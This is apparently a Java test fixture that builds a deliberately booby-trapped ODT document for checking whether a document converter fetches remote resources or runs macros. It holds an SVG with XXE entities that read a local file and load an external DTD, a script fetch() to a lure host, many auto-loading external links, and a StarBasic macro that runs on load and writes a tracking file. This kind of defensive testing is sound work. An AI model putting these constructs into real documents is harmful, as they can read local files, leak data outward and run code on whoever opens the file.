package io.switchpost.document.worker;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;

/** An ODT file with links, an SVG picture with links, and a macro that runs when it is loaded. */
final class BaitedOpenDocument {
  private static final String NAMES =
      """
      xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" \
      xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" \
      xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" \
      xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" \
      xmlns:xlink="http://www.w3.org/1999/xlink" \
      xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" \
      xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" \
      xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0\"""";

  private BaitedOpenDocument() {}

  static void references(Path file, Lure lure) throws IOException {
    String http = "http://" + lure.host();
    try (Zip zip = opened(file)) {
      zip.xml(
          "content.xml",
          """
          <office:document-content %s office:version="1.3"><office:scripts><office:event-listeners>\
          <script:event-listener script:language="ooo:script" script:event-name="dom:load" \
          xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" \
          xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text>\
          <text:p>What an open document may want</text:p>%s%s%s%s%s%s\
          <text:p>and its end</text:p></office:text></office:body></office:document-content>"""
              .formatted(
                  NAMES,
                  picture(http + "/odt.png"),
                  picture(lure.picture()),
                  picture("Pictures/bait.svg"),
                  section(lure.text()),
                  section(http + "/odt.txt"),
                  object(http)));
      zip.part("Pictures/bait.svg", svg(lure).getBytes(StandardCharsets.UTF_8));
      macro(zip, lure);
    }
  }

  /** Not of the text kind only: LibreOffice opens SVG by itself as well. */
  static String svg(Lure lure) {
    return """
    <?xml version="1.0"?>
    <!DOCTYPE svg [<!ENTITY near SYSTEM "%2$s"><!ENTITY %% far SYSTEM "http://%1$s/svg.dtd"> %%far;]>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">
    <style>@import url(http://%1$s/svg.css); text { fill: url(http://%1$s/svg.svg#x) }</style>
    <image xlink:href="http://%1$s/svg.png" width="300" height="300"/>
    <image href="%3$s" width="300" height="300"/><use xlink:href="http://%1$s/use.svg#x"/>
    <script xlink:href="http://%1$s/svg.js">fetch("http://%1$s/script")</script>
    <text x="10" y="20">&near;</text><text x="10" y="60">words</text></svg>
    """
        .formatted(lure.host(), lure.text(), lure.picture());
  }

  private static Zip opened(Path file) throws IOException {
    String manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0";
    return new Zip(file)
        .part(
            "mimetype",
            "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII))
        .xml(
            "META-INF/manifest.xml",
            """
            <manifest:manifest xmlns:manifest="%s" manifest:version="1.3">\
            <manifest:file-entry manifest:full-path="/" \
            manifest:media-type="application/vnd.oasis.opendocument.text"/>\
            <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>\
            <manifest:file-entry manifest:full-path="Pictures/bait.svg" manifest:media-type="image/svg+xml"/>\
            <manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/>\
            <manifest:file-entry manifest:full-path="Basic/Standard/script-lb.xml" manifest:media-type="text/xml"/>\
            <manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>\
            </manifest:manifest>"""
                .formatted(manifest));
  }

  private static String picture(String address) {
    return """
    <text:p><draw:frame text:anchor-type="as-char" svg:width="10cm" svg:height="10cm"><draw:image \
    xlink:href="%s" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>"""
        .formatted(address);
  }

  private static String section(String address) {
    return """
    <text:section text:name="%1$s"><text:section-source xlink:href="%1$s" xlink:type="simple"/>\
    <text:p>old words</text:p></text:section>"""
        .formatted(address);
  }

  private static String object(String http) {
    return """
    <text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:object xlink:href="%1$s/object.odt" \
    xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>\
    <draw:frame svg:width="5cm" svg:height="5cm"><draw:floating-frame xlink:href="%1$s/frame.html" \
    xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>\
    <draw:frame svg:width="5cm" svg:height="5cm"><draw:plugin xlink:href="%1$s/plugin.mp4" \
    draw:mime-type="application/vnd.sun.star.media"/></draw:frame></text:p>"""
        .formatted(http);
  }

  private static void macro(Zip zip, Lure lure) throws IOException {
    String names =
        "xmlns:library=\"http://openoffice.org/2000/library\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
    zip.xml(
        "Basic/script-lc.xml",
        "<library:libraries %s><library:library library:name=\"Standard\" library:link=\"false\"/></library:libraries>"
            .formatted(names));
    zip.xml(
        "Basic/Standard/script-lb.xml",
        """
        <library:library %s library:name="Standard" library:readonly="false" \
        library:passwordprotected="false"><library:element library:name="Module1"/></library:library>"""
            .formatted(names));
    zip.xml(
        "Basic/Standard/Module1.xml",
        """
        <script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" \
        script:language="StarBasic">Sub Main
        Open "%s" For Output As #1
        Print #1, "was here"
        Close #1
        End Sub</script:module>"""
            .formatted(lure.track()));
  }
}
